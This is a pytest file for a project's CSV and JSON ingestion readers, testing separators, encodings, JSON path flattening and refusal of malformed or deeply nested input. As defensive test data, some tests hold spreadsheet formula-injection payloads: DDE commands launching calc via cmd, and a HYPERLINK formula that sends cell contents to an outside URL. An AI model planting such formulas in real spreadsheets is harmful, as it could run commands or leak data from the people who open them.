"""Tables and JSON: each record says by itself what its values are."""

from __future__ import annotations

import csv
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import given, strategies as st

from ingest import ingest
from ingest.readers import Source, formats
from rag import Rag
from rag.errors import DocumentError


def read(kind: str, data: str | bytes) -> Source:
    raw = data.encode() if isinstance(data, str) else data
    return formats()[kind].readers[0](raw, lambda *_: None)


@pytest.mark.parametrize("sign", [",", ";", "\t", "|"])
def test_rows_name_their_columns_whatever_separates_them(sign: str) -> None:
    rows = [["Name", "Born"], ["Ada Lovelace", "1815"], ["Alan Turing", "1912"]]
    source = read("csv", "\r\n".join(sign.join(row) for row in rows))
    assert source.text == (
        "Name; Born\n\nName: Ada Lovelace; Born: 1815\n\nName: Alan Turing; Born: 1912\n\n"
    )


@pytest.mark.fault(55)
def test_ragged_and_quoted_rows_are_read() -> None:
    table = 'name,note\nann,"two, and\nthree"\nbob\ncleo,a,b,c\n\n,only a note\n'
    assert read("csv", table).text == (
        "name; note\n\nname: ann; note: two, and three\n\nname: bob\n\n"
        "name: cleo; note: a; b; c\n\n"
        "note: only a note\n\n"
    )


def test_a_table_without_names_keeps_its_first_row() -> None:
    assert read("csv", "1,2\n3,4\n").text == "1; 2\n\n3; 4\n\n"
    assert read("csv", "only,names\n").text == "only; names\n\n"


@pytest.mark.fault(53)
def test_a_formula_in_a_table_is_text() -> None:
    text = read("csv", "name,value\nx,=cmd|'/C calc'!A0\n").text
    assert text == "name; value\n\nname: x; value: =cmd|'/C calc'!A0\n\n"


@pytest.mark.fault(53)
def test_a_spreadsheet_of_formulas_is_ingested_as_it_is(tmp_path: Path) -> None:
    rows = [
        ["name", "value"],
        ["shell", "=cmd|'/C calc'!A0"],
        ["link", '=HYPERLINK("http://example.org/?"&A1, "click")'],
        ["sum", "@SUM(1+1)*cmd|' /C calc'!A0"],
        ["plus", "+1+1"],
        ["tab", "\t=1+1"],
    ]
    file = tmp_path / "formulas.csv"
    with file.open("w", encoding="utf-8-sig", newline="") as opened:
        csv.writer(opened, dialect="excel").writerows(rows)
    before = file.read_bytes()
    assert len(ingest(file).added) == 1
    with Rag() as bot:
        text = bot.source_text(bot.documents()[0].document_id)
    lines = [f"name: {name}; value: {value.strip()}" for name, value in rows[1:]]
    assert text == "\n\n".join(["name; value", *lines, ""])
    assert file.read_bytes() == before


@given(st.lists(st.lists(st.text(alphabet="ab1,;\"' \n|\t"), max_size=4), max_size=6))
def test_any_table_keeps_its_words_or_is_refused(rows: list[list[str]]) -> None:
    table = "\n".join(",".join(row) for row in rows)
    try:
        text = read("csv", table).text
    except DocumentError:
        return
    assert not Counter(filter(str.isalnum, table)) - Counter(filter(str.isalnum, text))


def test_a_json_document_is_its_values_with_their_paths() -> None:
    source = read(
        "json",
        '{"title": "Cells", "year": 1990.50, "ok": true, "none": null, "tags": ["a", "b"],'
        ' "by": [{"name": "Ann"}, {"name": "Bob"}], "text": "' + "Long text. " * 9 + '"}',
    )
    assert source.title == "Cells"
    assert source.text == (
        "title: Cells; year: 1990.50; ok: true; tags: a, b; by.1.name: Ann; by.2.name: Bob\n\n"
        f"text: {'Long text. ' * 9}".strip()
        + "\n\n"
    )


def test_records_of_json_lines_are_paragraphs_and_bad_lines_are_named() -> None:
    source = read("json", '{"a": 1}\n\n{"a": \n{"a": 2, "a": 3}\n')
    assert source.text == "a: 1\n\na: 2; a: 3\n\n"
    assert source.warning == "not JSON, left out: line 3"


@pytest.mark.fault(54)
@pytest.mark.parametrize("opening", ["[", '{"a":'])
def test_json_nested_without_end_is_refused(opening: str) -> None:
    with pytest.raises(DocumentError, match="nested too deep"):
        read("json", opening * 100_000)


@pytest.mark.parametrize("data", ["no json", "{]", b"\xff\xfe\x00"])
def test_what_is_no_json_is_refused(data: str | bytes) -> None:
    with pytest.raises(DocumentError):
        read("json", data)


def test_numbers_stay_as_written() -> None:
    digits = "9" * 5000
    assert read("json", f"[{digits}, 1e5, NaN]").text == f"{digits}\n\n1e5\n\nNaN\n\n"


@pytest.mark.parametrize(
    ("table", "line"),
    [
        ("Article;Price\nTea;3,50\nCake;2,20\n", "Article: Tea; Price: 3,50"),
        ("1,5;2,5\n3,5;4,5\n", "1,5; 2,5"),
        ("sep=|\nName|Born\nAda, Jr|1815\n", "Name: Ada, Jr; Born: 1815"),
        ('Name,Note\nAda,"one\ntwo"\n', "Name: Ada; Note: one two"),
        ('Part,Size\n"12 inch,5\nBolt,6\n', 'Part: "12 inch; Size: 5'),
        ("Day;Sum\n14.03.2024;-62,50\n", "Day: 14.03.2024; Sum: -62,50"),
        (",Q1,Q2\nOstby,3,4\n", "Ostby; Q1: 3; Q2: 4"),
        ("Stråde;Pris\nVågen;9\n".encode("cp1252"), "Stråde: Vågen; Pris: 9"),
        ("Name\tBorn\r\nAda\t1815\r\n".encode("utf-16"), "Name: Ada; Born: 1815"),
        ("Chins  Jumps\n   5  60.5\n  12 -1e3\n", "Chins: 12; Jumps: -1e3"),
        ("Sea calm\n12 boats\nsaw 9\n", "Sea calm"),
        ("Tags,Name\na;b,Ada\nc;d,Bob\n", "Tags: a;b; Name: Ada"),
    ],
)
def test_tables_as_programs_export_them(table: str | bytes, line: str) -> None:
    assert line in read("csv", table).text.split("\n\n")


@pytest.mark.parametrize(
    ("data", "paragraphs"),
    [
        ('[{"a": 1, "b": 2}, {"a": 3, "b": 4}]', ["a: 1; b: 2", "a: 3; b: 4"]),
        (
            '{"items": [{"n": "Tea", "p": 3}, {"n": "Cake", "p": 4}]}',
            ["items.1.n: Tea; items.1.p: 3", "items.2.n: Cake; items.2.p: 4"],
        ),
        (
            '{"of": "May", "items": [{"n": "Tea", "p": 3}], "by": "Ida"}',
            ["of: May", "items.1.n: Tea; items.1.p: 3", "by: Ida"],
        ),
        ('{"tags": [{"name": "a"}, {"name": "b"}]}', ["tags.1.name: a; tags.2.name: b"]),
        ('\ufeff{"a": 1}', ["a: 1"]),
        ('{"a": {"b": {"c": "deep"}}}', ["a.b.c: deep"]),
        ('{"rows": [["Tea", 3], ["Cake", 4]]}', ["rows.1: Tea, 3; rows.2: Cake, 4"]),
        ('{"a": "one\\ntwo", "b": 1}', ["a: one\ntwo", "b: 1"]),
        ('{"a": [], "b": "", "c": null, "d": 0}', ["d: 0"]),
        ('"only words"', ["only words"]),
    ],
)
def test_records_of_json_are_paragraphs(data: str, paragraphs: list[str]) -> None:
    assert read("json", data).text == "\n\n".join([*paragraphs, ""])


def test_a_record_with_many_values_is_several_lines_that_begin_with_its_name() -> None:
    values = ", ".join(f'"quantity {n}": {n}' for n in range(60))
    lines = read("json", f'[{{"ship": "Alma", {values}}}]').text.split("\n\n")[:-1]
    assert len(lines) > 1
    assert all(line.startswith("ship: Alma; quantity") for line in lines)
